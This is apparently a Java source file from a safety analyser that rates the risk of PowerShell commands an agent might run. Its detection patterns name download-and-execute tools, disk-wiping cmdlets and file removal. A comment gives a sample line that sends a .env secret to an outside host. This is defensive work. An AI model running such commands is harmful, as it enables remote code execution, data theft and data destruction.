package dev.countersign.analysis;

import dev.countersign.analysis.powershell.PowerShellText;
import dev.countersign.analysis.shell.Invocation;
import dev.countersign.call.Action;
import dev.countersign.call.Argument;
import dev.countersign.call.CommandLine;
import dev.countersign.call.Context;
import dev.countersign.call.LowerCase;
import dev.countersign.call.RiskTier;
import dev.countersign.call.Shell;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/** What a command of PowerShell does: a cmdlet of {@link Cmdlet}, or a program. */
final class PowerShellCommands {
    private static final String PROPERTY = "\\$(?:_|PSItem)(?:\\.[A-Za-z]+)*";
    private static final String VALUE =
            "(?:'[^']*'|\"[^\"$`]*\"|[0-9.]+(?:[kmgt]b)?|\\$(?:true|false|null))";
    private static final String TEST =
            "(?:-not\\s+|!\\s*)?"
                    + PROPERTY
                    + "(?:\\s+-[ci]?(?:eq|ne|gt|ge|lt|le|like|notlike|match|notmatch|contains"
                    + "|notcontains)\\s+"
                    + VALUE
                    + ")?";
    private static final Pattern WHERE =
            Pattern.compile(
                    "\\{\\s*" + TEST + "(?:\\s+-(?:and|or)\\s+" + TEST + ")*\\s*\\}",
                    Pattern.CASE_INSENSITIVE);
    private static final Pattern EACH = Pattern.compile("\\{\\s*" + PROPERTY + "\\s*\\}");

    /** Names of properties; any other name may be a method, which would be called. */
    private static final Set<String> PROPERTIES =
            Set.of(
                    "basename",
                    "count",
                    "creationtime",
                    "directoryname",
                    "extension",
                    "filename",
                    "fullname",
                    "id",
                    "lastwritetime",
                    "length",
                    "line",
                    "linenumber",
                    "name",
                    "path",
                    "processname",
                    "status",
                    "value",
                    "version");

    private static final Set<String> VERBS =
            Set.of(
                    "add",
                    "clear",
                    "disable",
                    "enable",
                    "enter",
                    "export",
                    "get",
                    "import",
                    "install",
                    "invoke",
                    "new",
                    "out",
                    "register",
                    "remove",
                    "restart",
                    "send",
                    "set",
                    "start",
                    "stop",
                    "uninstall",
                    "unregister",
                    "update");

    /** Aliases that only Windows PowerShell has; newer ones run the program. */
    private static final Set<String> OLD_ALIASES = Set.of("curl", "wget");

    private static final Pattern RUNS_TEXT =
            Pattern.compile("\\b(iex|invoke-expression)\\b|\\[scriptblock\\]::create");
    private static final WordSearch RUNNERS =
            WordSearch.of("iex", "invoke-expression", "[scriptblock]::create");
    private static final Pattern FETCHES =
            Pattern.compile(
                    "\\b(iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|downloadstring"
                            + "|downloaddata|webclient|httpclient)\\b");

    private static final WordSearch DISKS =
            WordSearch.of(
                    "-volume",
                    "-disk",
                    "-partition",
                    "-physicaldisk",
                    "-virtualdisk",
                    "-storagepool");

    private static final WordSearch FETCHERS =
            WordSearch.of(
                    "iwr",
                    "irm",
                    "curl",
                    "wget",
                    "invoke-webrequest",
                    "invoke-restmethod",
                    "downloadstring",
                    "downloaddata",
                    "webclient",
                    "httpclient");

    /** Cmdlets that take a disk or a part of one, with all that is on it. */
    private static final Pattern DESTROYS =
            Pattern.compile(
                    "\\b(format|clear|initialize|remove|reset|resize)-(volume|disk|partition"
                            + "|physicaldisk|virtualdisk|storagepool)\\b");

    private static final WordSearch REMOVES = WordSearch.of("remove-item", "format-volume");

    private final Judge judge;

    PowerShellCommands(Judge judge) {
        this.judge = judge;
    }

    void judge(Job job, String name) {
        boolean windows = job.context().platform().equals("windows");
        Cmdlet cmdlet = Cmdlet.find(name).orElse(null);
        boolean old = windows && OLD_ALIASES.contains(LowerCase.of(name));
        if (old) {
            cmdlet(job, Cmdlet.find("Invoke-WebRequest").orElseThrow());
        }
        if (cmdlet != null && (windows || !cmdlet.unix().contains(name))) {
            cmdlet(job, cmdlet);
            return;
        }
        if (cmdlet == null && looksLikeCmdlet(name)) {
            unknown(job, name);
            return;
        }
        String plain = LowerCase.of(name);
        if (plain.endsWith(".exe") || plain.endsWith(".com")) {
            plain = plain.substring(0, plain.length() - 4);
        }
        if (plain.equals("taskkill")) {
            new CmdCommands(judge).judge(job, name);
            return;
        }
        if (windows && new WindowsPrograms(judge).judge(job, plain)) {
            return;
        }
        if (REMOVERS.contains(LowerCase.of(name))) {
            WindowsRoots.removed(judge, job, job.arguments());
        }
        int before = judge.call.drafts.size();
        judge.command(program(job, name, windows));
        if (cmdlet != null) {
            // Which of the names are aliases there changed from one version to the next.
            int first = judge.call.drafts.size();
            judge.worst(() -> cmdlet(job, cmdlet));
            judge.dropCovered(before, first);
        }
    }

    private static final Set<String> REMOVERS = Set.of("rm", "ri", "del", "erase", "rd", "rmdir");

    /** Verb and noun; programs with a hyphen are rarely named so. */
    private static boolean looksLikeCmdlet(String name) {
        int hyphen = name.indexOf('-');
        return hyphen > 0
                && (name.matches("[A-Z][A-Za-z]+-[A-Z][A-Za-z]+")
                        || VERBS.contains(LowerCase.of(name.substring(0, hyphen))));
    }

    private void unknown(Job job, String name) {
        Draft draft = judge.opaque(job, "the cmdlet `" + Judge.cut(name) + "` is not known");
        String lower = LowerCase.of(name);
        String verb = lower.substring(0, lower.indexOf('-'));
        switch (verb) {
            case "install", "update", "save" ->
                    draft.atLeast(RiskTier.HIGH).tag("package-install", "network");
            case "remove", "clear", "format", "initialize", "uninstall", "reset" ->
                    draft.atLeast(RiskTier.HIGH).tag("destructive");
            case "set", "restart", "stop", "disable", "enable", "register", "unregister" ->
                    draft.atLeast(RiskTier.HIGH);
            default -> {}
        }
        if (DESTROYS.matcher(lower).matches()) {
            draft.atLeast(RiskTier.CRITICAL);
        }
    }

    // ---- programs

    /** The command as the program gets it; what it hands to a shell is no PowerShell. */
    private static Job program(Job job, String name, boolean windows) {
        List<Argument> words = new ArrayList<>();
        boolean ending = LowerCase.of(name).endsWith(".exe");
        String plain = ending ? name.substring(0, name.length() - 4) : name;
        Argument first = job.words().getFirst();
        String path = String.valueOf(first.value()).replace('\\', '/');
        String folder = path.substring(0, path.lastIndexOf('/') + 1);
        words.add(
                new Argument(
                        folder + (windows ? LowerCase.of(plain) : plain),
                        first.written(),
                        false,
                        first.source()));
        for (Argument word : job.arguments()) {
            words.add(isSure(word, windows) ? word : unknown(word));
        }
        Context context = job.context();
        Context other =
                new Context(
                        context.cwd(),
                        context.workspace(),
                        context.home(),
                        Shell.SH,
                        context.platform(),
                        context.environment(),
                        context.machine());
        return job.as(words, new CommandLine(words, job.line().wrapper(), false), other);
    }

    /** Whether a program gets a word as it was meant; quotation marks inside may be lost. */
    private static boolean isSure(Argument word, boolean windows) {
        String value = word.value();
        if (value == null || value.isEmpty() || value.indexOf('"') >= 0 || value.endsWith("\\")) {
            return false;
        }
        boolean split =
                word.written().startsWith("-")
                        && !word.written().startsWith("--")
                        && (value.indexOf('.') >= 0 || value.indexOf(':') >= 0);
        // A batch file in the place of a program reads these once more.
        boolean again = windows && value.chars().anyMatch(c -> "%&|<>^!".indexOf(c) >= 0);
        return !split && !again;
    }

    private static Argument unknown(Argument word) {
        return new Argument(null, word.written(), false, word.source());
    }

    /** The same effect in the words of another program; rules still see what was written. */
    private void like(Job job, List<Argument> words) {
        judge.likeProgram(job.as(words, job.line(), job.context()));
    }

    // ---- cmdlets

    private void cmdlet(Job given, Cmdlet cmdlet) {
        List<Argument> words = new ArrayList<>(given.words());
        Argument first = words.getFirst();
        words.set(0, new Argument(cmdlet.name(), first.written(), false, first.source()));
        Job job =
                given.as(
                        words,
                        new CommandLine(words, given.line().wrapper(), false),
                        given.context());
        Cmdlet.Bound bound = cmdlet.bind(job.arguments());
        if (bound.problem() != null) {
            judge.opaque(job, "`" + cmdlet.name() + "`: " + bound.problem());
            return;
        }
        switch (cmdlet.does()) {
            case "fact" -> judge.fact(job, fact(cmdlet));
            case "where" -> block(job, cmdlet, bound, WHERE);
            case "each" -> each(job, cmdlet, bound);
            case "list", "files" -> files(job, cmdlet, bound);
            case "make" -> make(job, bound);
            case "cp", "mv" -> carry(job, cmdlet, bound);
            case "rename" -> rename(job, cmdlet, bound);
            case "rm" -> remove(job, bound);
            case "web" -> web(job, cmdlet, bound);
            case "start" -> start(job, cmdlet, bound);
            case "kill" -> kill(job, bound);
            case "run" -> run(job, cmdlet, bound);
            case "archive" -> archive(job, cmdlet, bound);
            case "transcript" -> transcript(job, cmdlet, bound);
            default -> code(job, bound);
        }
    }

    private static String fact(Cmdlet cmdlet) {
        String name = cmdlet.name();
        if (name.endsWith("-Location")) {
            return name.startsWith("Get") ? "tells where it is" : "changes the working directory";
        }
        return name.startsWith("Get") ? "looks at the machine" : "looks at what it is given";
    }

    private void block(Job job, Cmdlet cmdlet, Cmdlet.Bound bound, Pattern simple) {
        for (List<Argument> words : bound.values().values()) {
            for (Argument word : words) {
                if (word.value() == null && !simple.matcher(word.written()).matches()) {
                    judge.opaque(job, "`" + cmdlet.name() + "` runs what stands in its block");
                    return;
                }
            }
        }
        judge.fact(job, "looks at what it is given");
    }

    private void each(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        for (Argument word : bound.of("MemberName")) {
            String member = word.value();
            if (member != null && !PROPERTIES.contains(LowerCase.of(member))) {
                judge.opaque(job, "`" + Judge.cut(member) + "` may be a method, which is called");
                return;
            }
        }
        block(job, cmdlet, bound, EACH);
    }

    private void files(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        int found = 0;
        for (Places.Touch touch : Places.Touch.values()) {
            List<String> names =
                    switch (touch) {
                        case READ -> cmdlet.read();
                        case WRITE -> cmdlet.write();
                        case LOOK, FOLDER -> List.of();
                        case DELETE -> cmdlet.delete();
                    };
            for (String name : names) {
                for (Argument word : bound.of(name)) {
                    found++;
                    if (String.valueOf(word.value()).matches("(?i)env:.*")) {
                        judge.secret(job, "shows the environment", cmdlet.name());
                        continue;
                    }
                    Argument path = path(word, !name.startsWith("Literal"));
                    if (touch == Places.Touch.WRITE && empties(job, cmdlet, bound)) {
                        judge.emptied(job, path);
                    } else {
                        judge.file(job, touch, path, cmdlet.does().equals("list"));
                    }
                }
            }
        }
        if (found > 0) {
            return;
        }
        boolean piped = job.input() instanceof Invocation.Input.Pipe;
        Argument listed = listed(job);
        if (cmdlet.does().equals("list") && !piped) {
            judge.file(job, Places.Touch.READ, Argument.of("."), true);
        } else if (cmdlet.name().equals("Select-String") && listed == null) {
            judge.fact(job, "searches its input");
        } else if (listed != null && !cmdlet.read().isEmpty()) {
            judge.file(job, Places.Touch.READ, listed, true);
        } else {
            judge.opaque(job, "`" + cmdlet.name() + "` does not say which files it means");
        }
    }

    /** Whether a cmdlet that writes a file anew puts nothing into it. */
    private static boolean empties(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        boolean piped = job.input() instanceof Invocation.Input.Pipe;
        return switch (cmdlet.name()) {
            case "Set-Content" ->
                    piped
                            ? saysNothing(job)
                            : bound.of("Value").stream().allMatch(PowerShellCommands::nothing);
            case "Out-File" ->
                    !bound.has("Append")
                            && (piped
                                    ? saysNothing(job)
                                    : bound.of("InputObject").stream()
                                            .allMatch(PowerShellCommands::nothing));
            default -> false;
        };
    }

    private static boolean nothing(Argument word) {
        return "".equals(word.value()) || word.written().equalsIgnoreCase("$null");
    }

    /** Whether what stands in front of this command is an empty text. */
    private static boolean saysNothing(Job job) {
        if (!(job.input() instanceof Invocation.Input.Pipe(List<Integer> from))
                || from.size() != 1) {
            return false;
        }
        List<Argument> words = job.text().invocations().get(from.getFirst()).argv();
        return words.size() == 2
                && "Write-Output".equals(words.getFirst().value())
                && nothing(words.getLast());
    }

    /** The one text in front of this command, as a path. */
    private @Nullable Argument said(Job job) {
        if (!(job.input() instanceof Invocation.Input.Pipe(List<Integer> from))
                || from.size() != 1) {
            return null;
        }
        List<Argument> words = job.text().invocations().get(from.getFirst()).argv();
        boolean says =
                words.size() == 2
                        && Cmdlet.find(String.valueOf(words.getFirst().value()))
                                .map(cmdlet -> cmdlet.name().equals("Write-Output"))
                                .orElse(false);
        return says ? path(words.getLast(), true) : null;
    }

    /** What a listing in front of this command names, or null when none is. */
    private @Nullable Argument listed(Job job) {
        Invocation.Input input = job.input();
        List<Invocation> all = job.text().invocations();
        while (input instanceof Invocation.Input.Pipe(List<Integer> from) && from.size() == 1) {
            Invocation source = all.get(from.getFirst());
            String name = String.valueOf(source.argv().getFirst().value());
            Cmdlet cmdlet = Cmdlet.find(name).orElse(null);
            if (cmdlet == null) {
                return null;
            }
            List<Argument> arguments = source.argv().subList(1, source.argv().size());
            switch (cmdlet.name()) {
                case "Where-Object", "Sort-Object" -> input = source.input();
                case "Get-ChildItem", "Get-Item" -> {
                    Cmdlet.Bound bound = cmdlet.bind(arguments);
                    List<Argument> paths = bound.of("Path", "LiteralPath");
                    boolean sure =
                            bound.problem() == null
                                    && paths.size() <= 1
                                    && source.input() instanceof Invocation.Input.Inherited;
                    if (!sure) {
                        return null;
                    }
                    return paths.isEmpty() ? Argument.of(".") : path(paths.getFirst(), true);
                }
                default -> {
                    return null;
                }
            }
        }
        return null;
    }

    /** A path as the rest of the analyser writes it; other providers and shares are unknown. */
    private Argument path(Argument word, boolean patterns) {
        String value = word.value();
        if (value == null) {
            return unknown(word);
        }
        String path =
                value.replaceFirst("(?i)^(Microsoft\\.PowerShell\\.Core\\\\)?FileSystem::", "")
                        .replace('\\', '/');
        int colon = path.indexOf(':');
        boolean drive = colon == 1 && Character.isLetter(path.charAt(0));
        boolean elsewhere =
                (colon >= 0 && !drive)
                        || (drive && !judge.call.context.platform().equals("windows"))
                        || path.startsWith("//")
                        || path.indexOf('`') >= 0;
        if (elsewhere) {
            return unknown(word);
        }
        boolean glob = patterns && path.chars().anyMatch(c -> "*?[".indexOf(c) >= 0);
        return new Argument(path, word.written(), glob, word.source());
    }

    private List<Argument> paths(Job job, Cmdlet.Bound bound) {
        List<Argument> paths = new ArrayList<>();
        bound.of("Path").forEach(word -> paths.add(path(word, true)));
        bound.of("LiteralPath").forEach(word -> paths.add(path(word, false)));
        if (paths.isEmpty()) {
            Argument listed = listed(job);
            listed = listed == null ? said(job) : listed;
            paths.add(listed == null ? new Argument(null, "", false, job.source()) : listed);
        }
        return paths;
    }

    private void make(Job job, Cmdlet.Bound bound) {
        String type = bound.text("ItemType");
        String kind = type == null ? bound.text("Type") : type;
        if (kind != null && LINKS.contains(LowerCase.of(kind))) {
            links(job, bound, LowerCase.of(kind).equals("hardlink"));
            return;
        }
        boolean known =
                kind == null
                        ? bound.of("ItemType", "Type").isEmpty()
                        : kind.equalsIgnoreCase("file") || kind.equalsIgnoreCase("directory");
        if (!known) {
            judge.opaque(job, "makes something that is neither a file nor a folder");
        }
        List<Argument> names = bound.of("Name");
        List<Argument> folders = bound.of("Path");
        if (names.isEmpty() && folders.isEmpty()) {
            judge.opaque(job, "makes something without a name");
        }
        boolean directory = "directory".equalsIgnoreCase(kind);
        // By force a file that is there becomes an empty one.
        boolean empties =
                !directory
                        && bound.has("Force")
                        && bound.of("Value").stream().allMatch(PowerShellCommands::nothing);
        if (names.isEmpty()) {
            folders.forEach(word -> made(job, path(word, false), directory, empties));
        }
        String folder = folders.isEmpty() ? "." : folders.getFirst().value();
        for (Argument name : names) {
            Argument whole =
                    folder == null || name.value() == null || folders.size() > 1
                            ? unknown(name)
                            : new Argument(
                                    folder + "/" + name.value(),
                                    name.written(),
                                    false,
                                    name.source());
            made(job, path(whole, false), false, empties);
        }
    }

    private void made(Job job, Argument path, boolean directory, boolean empties) {
        if (empties) {
            judge.emptied(job, path);
        } else {
            Places.Touch touch = directory ? Places.Touch.FOLDER : Places.Touch.WRITE;
            judge.file(job, touch, path, false);
        }
    }

    private static final Set<String> LINKS = Set.of("symboliclink", "hardlink", "junction");

    private void links(Job job, Cmdlet.Bound bound, boolean hard) {
        List<Argument> to = bound.of("Target", "Value");
        List<Argument> names = bound.of("Name");
        List<Argument> at = new ArrayList<>(bound.of("Path"));
        if (!names.isEmpty() && at.size() < 2) {
            String folder = at.isEmpty() ? "." : at.getFirst().value();
            String name = names.getFirst().value();
            at.clear();
            at.add(
                    folder == null || name == null
                            ? unknown(names.getFirst())
                            : Argument.of(folder + "/" + name));
        }
        if (to.size() != 1 || at.size() != 1) {
            judge.opaque(job, "makes a link in a way that is not followed");
            return;
        }
        List<Argument> words = new ArrayList<>(List.of(Argument.of("ln")));
        if (!hard) {
            words.add(Argument.of("-s"));
        }
        words.add(Argument.of("--"));
        words.add(path(to.getFirst(), false));
        words.add(path(at.getFirst(), false));
        like(job, words);
    }

    /** A file of all that is said; without a name, one in the home. */
    private void transcript(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        for (Argument word : bound.of("OutputDirectory")) {
            judge.output(job, path(word, false));
        }
        if (bound.of("Path", "LiteralPath").isEmpty()) {
            if (bound.of("OutputDirectory").isEmpty()) {
                judge.output(job, Argument.of(job.context().home() + "/Documents"));
            }
            return;
        }
        files(job, cmdlet, bound);
    }

    /** What unpacks into a folder, or packs up whole folders. */
    private void archive(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        for (String name : cmdlet.read()) {
            bound.of(name)
                    .forEach(word ->
                            judge.file(
                                    job,
                                    Places.Touch.READ,
                                    path(word, !name.startsWith("Literal")),
                                    true));
        }
        List<Argument> into = bound.of("DestinationPath");
        for (Argument word : into.isEmpty() ? List.of(Argument.of(".")) : into) {
            judge.output(job, path(word, false));
        }
        if (cmdlet.name().equals("Expand-Archive")) {
            judge.opaque(job, "unpacks files whose names are not known");
        }
    }

    private void carry(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        List<Argument> words = new ArrayList<>(List.of(Argument.of(cmdlet.does())));
        if (cmdlet.does().equals("cp")) {
            words.add(Argument.of("-r"));
        }
        words.add(Argument.of("--"));
        words.addAll(paths(job, bound));
        List<Argument> to = bound.of("Destination");
        if (to.size() > 1) {
            judge.opaque(job, "`" + cmdlet.name() + "` names several destinations");
        }
        words.add(to.isEmpty() ? Argument.of(".") : path(to.getFirst(), false));
        like(job, words);
    }

    private void rename(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        Argument from = paths(job, bound).getFirst();
        String name = bound.text("NewName");
        String path = from.value();
        boolean plain = name != null && path != null && name.matches("[^/\\\\:]+");
        if (!plain) {
            judge.opaque(job, "`" + cmdlet.name() + "` to a name that is not known");
        }
        String folder = path == null ? "" : path.substring(0, path.lastIndexOf('/') + 1);
        Argument to =
                plain ? Argument.of(folder + name) : new Argument(null, "", false, job.source());
        like(job, List.of(Argument.of("mv"), Argument.of("--"), from, to));
    }

    private void remove(Job job, Cmdlet.Bound bound) {
        List<Argument> words = new ArrayList<>(List.of(Argument.of("rm")));
        if (bound.has("Recurse") || bound.of("Path", "LiteralPath").isEmpty()) {
            words.add(Argument.of("-r"));
        }
        if (words.size() > 1) {
            WindowsRoots.removed(judge, job, bound.of("Path", "LiteralPath"));
        }
        words.add(Argument.of("--"));
        words.addAll(paths(job, bound));
        like(job, words);
    }

    private void web(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        List<Argument> words = new ArrayList<>(List.of(Argument.of("curl"), Argument.of("-s")));
        boolean near =
                bound.of("Uri").stream()
                        .allMatch(uri -> judge.call.network.target(uri.value()).loopback());
        if (!near || bound.of("Uri").isEmpty()) {
            words.add(Argument.of("-L"));
        }
        bound.of("Method")
                .forEach(word -> {
                    words.add(Argument.of("-X"));
                    words.add(word);
                });
        boolean piped = job.input() instanceof Invocation.Input.Pipe;
        bound.of("Body")
                .forEach(word -> {
                    words.add(Argument.of("--data-raw"));
                    words.add(word);
                });
        if (piped && bound.of("Uri").isEmpty()) {
            judge.opaque(job, "`" + cmdlet.name() + "` gets its address from another command");
            return;
        }
        if (piped) {
            words.add(Argument.of("--data-binary"));
            words.add(Argument.of("@-"));
        }
        bound.of("InFile")
                .forEach(word -> {
                    words.add(Argument.of("-T"));
                    words.add(path(word, false));
                });
        bound.of("OutFile")
                .forEach(word -> {
                    words.add(Argument.of("-o"));
                    words.add(path(word, false));
                });
        words.addAll(bound.of("Uri"));
        like(job, words);
    }

    private void start(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        if (!bound.of("Verb").isEmpty()) {
            judge.shell(job, RiskTier.CRITICAL, "starts a program with other rights").tag("escape");
        }
        for (String name : List.of("RedirectStandardOutput", "RedirectStandardError")) {
            bound.of(name)
                    .forEach(word -> judge.file(job, Places.Touch.WRITE, path(word, false), false));
        }
        bound.of("RedirectStandardInput")
                .forEach(word -> judge.file(job, Places.Touch.READ, path(word, false), false));
        String program = bound.text("FilePath");
        if (program == null || program.contains("://") || program.isBlank()) {
            judge.opaque(job, "`" + cmdlet.name() + "` of something that is not known");
            return;
        }
        List<Argument> words = new ArrayList<>(bound.of("FilePath"));
        for (Argument word : bound.of("ArgumentList")) {
            String value = word.value();
            if (value == null || value.indexOf('"') >= 0) {
                words.add(unknown(word));
                continue;
            }
            for (String part : value.strip().split("\\s+", -1)) {
                words.add(new Argument(part, part, false, word.source()));
            }
        }
        boolean windows = job.context().platform().equals("windows");
        Job inner = job.inner(words, List.of(Argument.of(cmdlet.name())));
        Job there =
                bound.of("WorkingDirectory").isEmpty()
                        ? inner
                        : inner.in(
                                judge.moved(
                                        job.directory(),
                                        path(bound.of("WorkingDirectory").getFirst(), false)));
        judge.command(program(there, Judge.lastName(program), windows));
    }

    /** A block that runs here, or on other machines; what else it is given is data to it. */
    private void run(Job job, Cmdlet cmdlet, Cmdlet.Bound bound) {
        List<Argument> elsewhere = new ArrayList<>();
        for (String name : List.of("ComputerName", "cn", "HostName", "Session", "VMName")) {
            for (Argument word : bound.of(name)) {
                if (!isBlock(word)) {
                    elsewhere.add(word);
                }
            }
        }
        for (String file : List.of("FilePath", "InitializationScript")) {
            for (Argument word : bound.of(file)) {
                if (!isBlock(word)) {
                    judge.code().scriptFile(job, path(word, false));
                }
            }
        }
        int found = 0;
        Draft remote =
                elsewhere.isEmpty()
                        ? null
                        : judge.shell(
                                        job,
                                        RiskTier.HIGH,
                                        "`" + cmdlet.name() + "` works on another machine")
                                .tag("network");
        for (List<Argument> words : bound.values().values()) {
            for (Argument word : words) {
                if (!isBlock(word)) {
                    continue;
                }
                found++;
                String text = word.written().substring(1, word.written().length() - 1);
                if (remote == null) {
                    judge.nested(text, job);
                } else {
                    remote.perhaps(judge.lesser(() -> judge.nested(text, job)));
                }
            }
        }
        if (found == 0 && bound.of("FilePath").isEmpty()) {
            judge.opaque(job, "`" + cmdlet.name() + "` of something that is not known");
        }
    }

    private static boolean isBlock(Argument word) {
        return word.value() == null && word.written().startsWith("{");
    }

    private void kill(Job job, Cmdlet.Bound bound) {
        for (Argument word : processes(job)) {
            judge.worst(() -> like(job, List.of(Argument.of("pkill"), word)));
        }
        if (bound.of("Id", "Name").isEmpty()) {
            judge.opaque(job, "ends processes that are not named here").atLeast(RiskTier.HIGH);
            return;
        }
        for (Argument word : bound.of("Id")) {
            like(job, List.of(Argument.of("kill"), word));
        }
        for (Argument word : bound.of("Name")) {
            like(job, List.of(Argument.of("pkill"), word));
        }
    }

    /** The names a {@code Get-Process} in front of this command asks for. */
    private List<Argument> processes(Job job) {
        Invocation.Input input = job.input();
        List<Invocation> all = job.text().invocations();
        while (input instanceof Invocation.Input.Pipe(List<Integer> from) && from.size() == 1) {
            Invocation source = all.get(from.getFirst());
            Cmdlet cmdlet =
                    Cmdlet.find(String.valueOf(source.argv().getFirst().value())).orElse(null);
            if (cmdlet == null) {
                return List.of();
            }
            List<Argument> arguments = source.argv().subList(1, source.argv().size());
            switch (cmdlet.name()) {
                case "Where-Object", "Sort-Object", "Select-Object" -> input = source.input();
                case "Get-Process" -> {
                    Cmdlet.Bound bound = cmdlet.bind(arguments);
                    return bound.problem() == null ? bound.of("Name") : List.of();
                }
                default -> {
                    return List.of();
                }
            }
        }
        return List.of();
    }

    private void code(Job job, Cmdlet.Bound bound) {
        for (Argument word : bound.of("Command")) {
            String text = word.value();
            if (text == null) {
                judge.opaque(job, "the text it runs is not constant");
            } else {
                judge.nested(text, job);
            }
        }
        if (bound.of("Command").isEmpty()) {
            runsInput(judge, job, "runs what other commands print");
        }
    }

    /** A shell of either kind that runs what it reads from a pipe. */
    static void runsInput(Judge judge, Job job, String otherwise) {
        boolean fetched = false;
        for (String name : judge.net().upstream(job)) {
            Cmdlet source = Cmdlet.find(name).orElse(null);
            fetched |=
                    NetCommands.isFetcher(name) || (source != null && source.does().equals("web"));
        }
        if (fetched) {
            judge.shell(job, RiskTier.CRITICAL, "runs code straight from the network")
                    .opaque()
                    .tag("network");
        } else {
            judge.opaque(job, otherwise);
        }
    }

    /** The text last asked for what it plainly does, and what was found. */
    private @Nullable String unreadText;

    private @Nullable Context unreadIn;

    /** That text with its folders written out; many parts of one text may not be followed. */
    private String shown = "";

    private boolean fetchesCode;
    private boolean fetches;
    private boolean removes;
    private boolean destroys;

    /** Marks on text that could not be followed: what it names that no agent may touch. */
    void unread(String text, Context context, Draft draft) {
        if (!text.equals(unreadText) || !context.equals(unreadIn)) {
            unreadIn = context;
            shown = PowerShellText.withFolders(text, context);
        }
        judge.code().marks(shown, draft);
        if (!text.equals(unreadText)) {
            String lower = LowerCase.of(text);
            unreadText = text;
            fetches = FETCHERS.findsIn(lower) && FETCHES.matcher(lower).find();
            fetchesCode = fetches && RUNNERS.findsIn(lower) && RUNS_TEXT.matcher(lower).find();
            removes = REMOVES.findsIn(lower);
            destroys = DISKS.findsIn(lower) && DESTROYS.matcher(lower).find();
        }
        if (fetchesCode) {
            draft.tag("network").atLeast(RiskTier.CRITICAL);
            draft.summary = "runs code straight from the network: " + draft.summary;
        }
        if (removes) {
            draft.tag("destructive").atLeast(RiskTier.HIGH);
        }
        if (destroys) {
            draft.tag("destructive").atLeast(RiskTier.CRITICAL);
        }
    }

    /**
     * A secret that is read somewhere in a text which could not be followed, and which speaks to
     * others: {@code iwr "http://x/?q=$(gc .env)"}.
     */
    void sendsRead(String text, List<Draft> found) {
        boolean secret = found.stream().anyMatch(draft -> draft.tags.contains("secret"));
        if (!secret || !text.equals(unreadText) || !fetches) {
            return;
        }
        for (Draft draft : found) {
            if (draft.opaque && draft.action == Action.SHELL_RUN) {
                draft.tag("network", "secret").atLeast(RiskTier.CRITICAL);
                draft.summary = draft.summary + ", and may send a secret";
                return;
            }
        }
    }
}
